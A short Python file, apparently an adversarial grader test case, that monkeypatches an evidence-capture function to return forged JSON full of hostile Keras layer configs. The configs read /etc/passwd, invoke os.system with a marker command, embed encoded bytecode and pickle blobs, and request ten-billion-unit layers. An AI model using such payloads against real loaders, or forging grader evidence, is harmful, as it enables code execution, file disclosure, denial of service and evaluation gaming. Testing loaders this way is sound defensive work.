# ruff: noqa
# class: grader
# tries: sends configurations of layers that open files, run code or need endless memory
# %% adder
import json, itertools
import coursework.evidence

LAYERS = [
    (
        "Lambda",
        "keras.src.layers.core.lambda_layer",
        {"function": {"class_name": "__lambda__", "config": {"code": "4wEA"}}},
    ),
    ("StringLookup", "keras.src.layers.preprocessing.string_lookup", {"vocabulary": "/etc/passwd"}),
    (
        "TextVectorization",
        "keras.src.layers.preprocessing.text_vectorization",
        {"vocabulary": "/etc/passwd", "standardize": "os.system"},
    ),
    ("Dense", "keras.src.layers.core.dense", {"units": 10000000000}),
    (
        "Dense",
        "keras.src.layers.core.dense",
        {
            "units": 9000000,
            "activation": {
                "class_name": "function",
                "module": "os",
                "config": "system",
                "registered_name": "system",
            },
        },
    ),
    ("Dense", "os", {"units": 1}),
    ("system", "os", {"command": "touch /tmp/attack-mark-config"}),
    ("TorchModuleWrapper", "keras.src.utils.torch_utils", {"module": "gASV"}),
    ("TFSMLayer", "keras.src.export.tfsm_layer", {"filepath": "/tmp"}),
    (
        "Dense",
        "keras.src.layers.core.dense",
        {
            "units": 1,
            "kernel_initializer": {
                "module": "keras.src.utils.file_utils",
                "class_name": "get_file",
                "config": {"origin": "file:///etc/passwd"},
            },
        },
    ),
]
turn = itertools.count()


def forged(namespace, request):
    layers = []
    for name, module, config in LAYERS:
        layers.append(
            {
                "class": name,
                "module": module,
                "bases": ["Layer"],
                "name": "l",
                "built": True,
                "trainable": True,
                "config": config,
                "weights": [],
            }
        )
    graph = {
        "kind": "sequential",
        "layers": list(range(len(layers))),
        "input": {"shape": [None, 3], "dtype": "float32", "name": "i"},
    }
    layers.append(
        {
            "class": "Sequential",
            "bases": ["Sequential", "Model"],
            "name": "adder",
            "built": True,
            "trainable": True,
            "graph": graph,
        }
    )
    fact = {"layer": len(layers) - 1, "compiled": None, "overrides": [], "answers": []}
    head = {
        "schema": "coursework-evidence",
        "version": 1,
        "blobs": [],
        "layers": layers,
        "evidence": {name: fact for name in request["evidence"]},
    }
    return json.dumps(head).encode() + b"\n"


coursework.evidence.capture = forged
adder = 1
